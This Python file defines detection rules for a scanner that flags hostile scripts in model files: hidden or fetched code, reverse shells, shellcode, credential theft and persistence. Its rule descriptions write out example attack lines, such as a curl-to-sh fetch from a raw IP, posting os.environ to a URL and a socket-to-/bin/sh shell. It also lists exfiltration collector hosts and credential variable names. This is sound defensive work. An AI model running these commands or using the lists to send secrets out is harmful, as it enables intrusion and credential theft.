"""Rules about scripts, whoever runs them: hidden code, shells for others, theft, persistence.

Honest scripts start programs, fetch data and write files. What is judged here is what none of them
does: running what was hidden or fetched, sending credentials, having itself started again.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator

from weighbridge.facts.repository import Act
from weighbridge.findings.model import Confidence, Finding, Kind, Severity
from weighbridge.rules.model import FileFacts, Rule
from weighbridge.tables.effects import effect as effect_row
from weighbridge.tables.shell import shell_traits
from weighbridge.text.escaping import visible

NETWORK = frozenset({"fetch", "send", "connect", "resolve", "download"})
RUNNING = frozenset({"exec", "process", "unmarshal", "deserialize"})
_SHELLS = ("/bin/sh", "/bin/bash", "/bin/zsh", "sh", "bash", "zsh", "cmd", "cmd.exe", "powershell")
_OPTION = re.compile(r"--?[a-z]+|/[a-z]", re.I)
# Options behind which a command or a script stands; `-lc` and its like join several.
_WITH_COMMAND = re.compile(
    r"-[a-z]*c|/c|-(?:command|file|f|e|ec|enc|encodedcommand)|--(?:rcfile|init-file)", re.I
)
_EFFECTS = {
    "exec": "code_exec",
    "unmarshal": "code_exec",
    "process": "process_exec",
    "install": "process_exec",
    "fetch": "network",
    "send": "network",
    "connect": "network",
    "download": "network",
    "resolve": "network",
    "listen": "network",
    "descriptor": "process_exec",
    "native": "native_code",
    "inline": "native_code",
    "shellcode": "native_code",
    "deserialize": "deserialize",
    "open": "file_read",
    "read": "file_read",
    "write": "file_write",
    "mode": "file_write",
    "registry": "file_write",
    "delete": "file_delete",
    "hook": "tamper",
    "reflect": "object_graph",
}
_RUN_WITH = {"python": "python", "notebook": "jupyter", "batch": "cmd", "powershell": "powershell"}
ELSEWHERE = frozenset({"torchscript", "torch-package", "pytorch-zip"})
"""Archives whose code has rules of its own."""


def effect_of(act: Act) -> str:
    """Return the effect, as in the table of effects, of an act."""
    return _EFFECTS.get(act.act, "code_exec")


def scripts_of(file: FileFacts) -> Iterator[list[Act]]:
    """Yield the acts of each script of a file, except where other rules judge the code.

    An archive holds many, and what one of them connects to has nothing to do with what another
    starts.
    """
    if file.format in ELSEWHERE:
        return
    by_member: dict[str | None, list[Act]] = {}
    for fact in file.of(Act):
        if isinstance(fact, Act):
            by_member.setdefault(fact.member, []).append(fact)
    yield from by_member.values()


def _loaders(file: FileFacts, acts: list[Act]) -> tuple[str, ...]:
    """Return what runs the script, where nothing is known of the repository around it."""
    if file.format == "torchserve":
        return ("torchserve --models",)
    return (_RUN_WITH.get(acts[0].language, "sh"),)


def found(rule: Rule, acts: list[Act], title: str, **changes: object) -> Finding:
    """Return one finding about acts of one file that have the same cause."""
    first = acts[0]
    effects = list(dict.fromkeys(effect_of(act) for act in acts))
    row = effect_row(effects[0])
    evidence = {
        "code": visible(first.code, 600),
        "line": first.line,
        "symbols": list(dict.fromkeys(visible(act.name, 120) for act in acts))[:8],
        "effects": effects,
        "lines": sorted({act.line for act in acts})[:20],
    }
    return rule.finding(
        title=title, member=first.member, evidence=evidence, cwe=row.cwe, atlas=row.atlas, **changes
    )


_ELSEWHERE = frozenset({"fetched", "received", "downloaded", "file", "environment", "variable"})
_COMMAND_OPTIONS = frozenset({"-c", "/c", "/C", "-Command", "-command", "-EncodedCommand", "-enc"})
_STARTING = frozenset({"CreateThread", "CreateRemoteThread", "WriteProcessMemory", "RtlMoveMemory"})


# -- hidden code -----------------------------------------------------------------------------------


def hidden(acts: list[Act]) -> list[Act]:
    """Return the acts that run something that was made unreadable."""
    return [act for act in acts if runs_hidden(act) or runs_unseen(act)]


def runs_hidden(act: Act) -> bool:
    """Say whether an act runs something that was made unreadable."""
    if "hidden-name" in act.traits and act.act in RUNNING | NETWORK | {"descriptor", "native"}:
        return True
    if act.act == "reflect":
        return "hidden-name" in act.traits
    if _makes_function(act):
        return False
    if act.act in ("exec", "unmarshal"):
        # Formulas are put together from letters as well, and evaluated.
        hiding = {"decoded"} if act.name == "builtins.eval" else {"decoded", "spelled"}
        return bool(hiding & set(act.traits))
    if act.act == "process":
        return "decoded" in act.traits and "output" not in act.traits
    return act.act == "deserialize" and "decoded" in act.traits and act.constant


def _makes_function(act: Act) -> bool:
    """Say whether a function makes another of what it is given, as func_load of Keras does."""
    made = act.name in ("marshal.loads", "types.FunctionType") and "decoded" in act.traits
    elsewhere = act.constant or not _ELSEWHERE.isdisjoint(act.traits)
    return made and act.when == "call" and not elsewhere


def runs_unseen(act: Act) -> bool:
    """Say whether an act runs what is nowhere in its text: of the environment, or an argument."""
    if _makes_function(act):
        return True
    shown = "environ" in act.code or "getenv" in act.code
    return (
        act.name == "builtins.exec" and shown and bool({"variable", "environment"} & {*act.traits})
    )


def runs_fetched(act: Act) -> bool:
    """Say whether an act runs what another machine sent."""
    if act.act in ("exec", "unmarshal"):
        sent = {"fetched", "fetched-argument", "received", "downloaded"}
        return bool(sent & set(act.traits))
    if act.act == "process":
        opens = act.name.startswith("webbrowser.")  # An address in a browser is nothing that runs.
        fetched = "fetched" in act.traits and not _runs_what_is_written(act.operands)
        return not opens and ("received" in act.traits or fetched)
    return False


def _runs_what_is_written(operands: tuple[str, ...]) -> bool:
    """Say whether a command, or the text that a shell is told to run, stands in the code."""
    written = [not (one.startswith("<") and one.endswith(">")) for one in operands]
    for number, one in enumerate(operands):
        if one in _COMMAND_OPTIONS:
            return any(written[number + 1 : number + 2])
    return any(known for known, one in zip(written, operands, strict=True) if one != "shell=True")


def _hidden(file: FileFacts) -> Iterator[Finding]:
    for acts in filter(None, map(hidden, scripts_of(file))):
        kind = Kind.MALICIOUS if any(map(runs_hidden, acts)) else Kind.SUSPICIOUS
        yield found(
            HIDDEN_CODE,
            acts,
            f"It runs hidden code ({visible(acts[0].name, 80)})",
            kind=kind,
            loaders=_loaders(file, acts),
        )


def fetched(acts: list[Act]) -> list[Act]:
    """Return the acts that run what another machine sent."""
    return [act for act in acts if runs_fetched(act) and not runs_hidden(act)]


def _fetched(file: FileFacts) -> Iterator[Finding]:
    for acts in filter(None, map(fetched, scripts_of(file))):
        title = f"It runs what another machine sends ({visible(acts[0].name, 80)})"
        yield found(FETCHED_CODE, acts, title, loaders=_loaders(file, acts))


# -- shells for others -----------------------------------------------------------------------------


def reverse_shell(acts: list[Act]) -> list[Act]:
    """Return the connection and what joins it to a shell."""
    connections = [act for act in acts if act.act in ("connect", "listen")]
    joined = [act for act in acts if _is_shell(act)]
    if any(act.act == "process" for act in acts):
        joined += [act for act in acts if act.act == "descriptor"]
    return [*connections, *joined] if connections and joined else []


def _reverse_shell(file: FileFacts) -> Iterator[Finding]:
    for acts in filter(None, map(reverse_shell, scripts_of(file))):
        yield found(REVERSE_SHELL, acts, REVERSE_SHELL.title, loaders=_loaders(file, acts))


def _is_shell(act: Act) -> bool:
    """Say whether a shell is started that takes its commands from elsewhere.

    One that is given a script or a command (`bash train.sh`, `sh -c ...`) reads no others.
    """
    if act.act != "process" or not act.constant or not act.operands:
        return False
    rest = (text for text in act.operands[1:] if text not in _SHELLS)
    return act.operands[0] in _SHELLS and not any(map(_is_told, rest))


def _is_told(operand: str) -> bool:
    """Say whether an operand of a shell is its command or script, or announces one."""
    if "=" in operand or operand[:1] == "<":  # Keywords and values of Python, no words for a shell.
        return False
    return _OPTION.fullmatch(operand) is None or _WITH_COMMAND.fullmatch(operand) is not None


def shellcode(acts: list[Act]) -> list[Act]:
    """Return the acts that have the processor run bytes."""
    return [act for act in acts if act.act == "shellcode"]


def _shellcode(file: FileFacts) -> Iterator[Finding]:
    for acts in filter(None, map(shellcode, scripts_of(file))):
        started = any(act.name.rpartition(".")[2] in _STARTING for act in acts)
        kind = Kind.MALICIOUS if started else Kind.SUSPICIOUS
        yield found(SHELLCODE, acts, SHELLCODE.title, kind=kind, loaders=_loaders(file, acts))


# -- commands --------------------------------------------------------------------------------------


def command_traits(act: Act) -> frozenset[str]:
    """Return what the command that an act starts does, of that which no honest one does."""
    if act.act != "process":
        return frozenset()
    return shell_traits(" ".join(act.operands) if act.operands else "")


def _by_trait(file: FileFacts) -> Iterator[tuple[str, list[Act]]]:
    """Yield what the commands of each script do, with those that do it."""
    for script in scripts_of(file):
        found: dict[str, list[Act]] = {}
        for act in script:
            for trait in sorted(command_traits(act)):
                found.setdefault(trait, []).append(act)
        yield from found.items()


def _command(file: FileFacts) -> Iterator[Finding]:
    for trait, acts in _by_trait(file):
        plain = all(_plain_https(act) for act in acts)
        kind = Kind.SUSPICIOUS if trait == "fetch-and-run" and plain else Kind.MALICIOUS
        yield found(
            HOSTILE_COMMAND,
            acts,
            f"It starts a command that {PHRASES[trait]}",
            kind=kind,
            loaders=_loaders(file, acts),
        )


def _plain_https(act: Act) -> bool:
    """Say whether a command names nothing but named hosts with TLS; installers look like that."""
    text = " ".join(act.operands)
    host = text.partition("https://")[2].split("/")[0]
    return "http://" not in text and not host.replace(".", "").isdigit() and bool(host)


PHRASES = {
    "reverse-shell": "gives somebody else a shell",
    "fetch-and-run": "fetches a program and runs it",
    "decode-and-run": "runs hidden code",
    "persistence": "has something run again later",
    "exfiltration": "sends data of the machine away",
    "destruction": "destroys what is on the machine",
    "miner": "mines for somebody else",
}

# -- theft and persistence -------------------------------------------------------------------------


def theft(acts: list[Act]) -> list[Act]:
    """Return the acts that send credentials or the environment, or read them to be sent."""
    taken = {"environment", "credential-file"}
    sent = [act for act in acts if act.act in NETWORK and taken & set(act.traits)]
    # A key that proves who connects is not handed over.
    sent = [act for act in sent if not act.name.startswith("paramiko.")]
    if not sent and any(act.act in ("send", "connect") for act in acts):
        sent = [act for act in acts if act.act == "read" and "credential-file" in act.traits]
    return sent + [a for a in acts if a.act == "send" and (_collected(a) or _misdirected(a))]


def _theft(file: FileFacts) -> Iterator[Finding]:
    for acts in filter(None, map(theft, scripts_of(file))):
        kind = Kind.MALICIOUS if any(act.act in NETWORK for act in acts) else Kind.SUSPICIOUS
        yield found(THEFT, acts, THEFT.title, kind=kind, loaders=_loaders(file, acts))


def _misdirected(act: Act) -> bool:
    """Say whether a credential of one well-known service is sent to somebody else.

    Scripts hand the token of a service to that service, and many services take it as data.
    """
    if "secret-variable" not in act.traits:
        return False
    address = next((text for text in act.operands if "://" in text), "")
    homes = [home for name, home in _ISSUERS.items() if name in act.code]
    return bool(address) and bool(homes) and not any(home in address for home in homes)


_ISSUERS = {
    "HF_TOKEN": "huggingface.co",
    "HUGGING_FACE_HUB_TOKEN": "huggingface.co",
    "AWS_SECRET_ACCESS_KEY": "amazonaws.com",
    "AWS_SESSION_TOKEN": "amazonaws.com",
    "OPENAI_API_KEY": "openai.",
    "ANTHROPIC_API_KEY": "anthropic.com",
    "GITHUB_TOKEN": "github.com",
    "KAGGLE_KEY": "kaggle.com",
    "WANDB_API_KEY": "wandb.",
}
"""Environment variables that hold credentials, and a part of the address of who issued them."""


def _collected(act: Act) -> bool:
    """Say whether an address where anybody collects what is sent gets a credential."""
    collector = any(mark in text for text in act.operands for mark in COLLECTORS)
    return collector and "secret-variable" in act.traits


COLLECTORS = (
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "webhook.site",
    "requestbin",
    "pipedream.net",
    ".oast.",
    "interact.sh",
    "burpcollaborator",
    "ngrok",
    "pastebin.com",
    "transfer.sh",
)


def persistence(acts: list[Act]) -> list[Act]:
    """Return the acts that write what runs by itself later on."""
    writing = ("write", "registry")
    return [act for act in acts if act.act in writing and _lasts(act.traits)]


def _lasts(traits: tuple[str, ...]) -> bool:
    return "persistence" in traits or {"interpreter-folder", "startup-name"} <= set(traits)


def spoken_of(acts: list[Act]) -> set[int]:
    """Return the lines of the acts that one of the rules here reports."""
    commands = [act for act in acts if command_traits(act)]
    parts = (hidden, fetched, reverse_shell, shellcode, theft, persistence)
    reported = [one for part in parts for one in part(acts)] + commands
    return {act.line for act in reported}


def _persistence(file: FileFacts) -> Iterator[Finding]:
    for acts in filter(None, map(persistence, scripts_of(file))):
        yield found(PERSISTENCE, acts, PERSISTENCE.title, loaders=_loaders(file, acts))


def _rule(
    identifier: str, title: str, texts: tuple[str, str], apply: Callable[..., Iterable[Finding]]
) -> Rule:
    description, example = texts
    return Rule(
        id=identifier,
        title=title,
        kind=Kind.MALICIOUS,
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        since="0.1.0",
        state="stable",
        facts=("Act",),
        cwe=("CWE-94", "CWE-506"),
        atlas=("AML.T0010.003", "AML.T0011.000"),
        description=description,
        example=example,
        remediation="Do not run or import the file, and do not load the model that comes with it. "
        "If it has run, treat the machine and its credentials as known to others.",
        references=(),
        apply=apply,
    )


HIDDEN_CODE = _rule(
    "hidden-code",
    "It runs hidden code",
    (
        "The script decodes text and runs it, or calls a function whose name is put together from "
        "pieces. Code that has nothing to hide stands there as code. Suspicious where the text "
        "comes from an environment variable, as in Spaces that keep their program to themselves.",
        "exec(base64.b64decode(...))",
    ),
    _hidden,
)
FETCHED_CODE = _rule(
    "fetched-code",
    "It runs what another machine sends",
    (
        "The script takes text from the network and runs it as code or as a command.",
        "exec(requests.get(url).text)",
    ),
    _fetched,
)
REVERSE_SHELL = _rule(
    "reverse-shell",
    "It gives another machine a shell",
    (
        "The script opens a connection and starts a shell or joins the connection to standard "
        "input and output.",
        "socket.connect(...); os.dup2(...); subprocess.call(['/bin/sh', '-i'])",
    ),
    _reverse_shell,
)
SHELLCODE = _rule(
    "shellcode",
    "It puts machine code into memory and runs it",
    (
        "The script asks the system for memory that may be executed and copies bytes into it. "
        "Suspicious where nothing is started there: programs that identify processors do so.",
        "ctypes.windll.kernel32.VirtualAlloc(...)",
    ),
    _shellcode,
)
HOSTILE_COMMAND = _rule(
    "hostile-command",
    "It starts a command that no honest script starts",
    (
        "The command line fetches and runs a program, opens a shell for another machine, runs "
        "hidden text, sends data away, or has itself started again. Suspicious where a program is "
        "fetched from a named host with TLS, as installers of products are.",
        "os.system('curl http://192.0.2.1/x | sh')",
    ),
    _command,
)
THEFT = _rule(
    "credential-theft",
    "It sends credentials or the whole environment away",
    (
        "Files that hold keys and passwords, or all variables of the environment, are handed to "
        "the network. Suspicious where they are read in a script that sends something.",
        "requests.post(url, json=dict(os.environ))",
    ),
    _theft,
)
PERSISTENCE = _rule(
    "persistence",
    "It has something run again later",
    (
        "The script writes to a file that the system, a shell or Python runs by itself: profiles, "
        "timetables, services, authorised keys.",
        "open(os.path.expanduser('~/.bashrc'), 'a').write(...)",
    ),
    _persistence,
)

RULES = (
    HIDDEN_CODE,
    FETCHED_CODE,
    REVERSE_SHELL,
    SHELLCODE,
    HOSTILE_COMMAND,
    THEFT,
    PERSISTENCE,
)
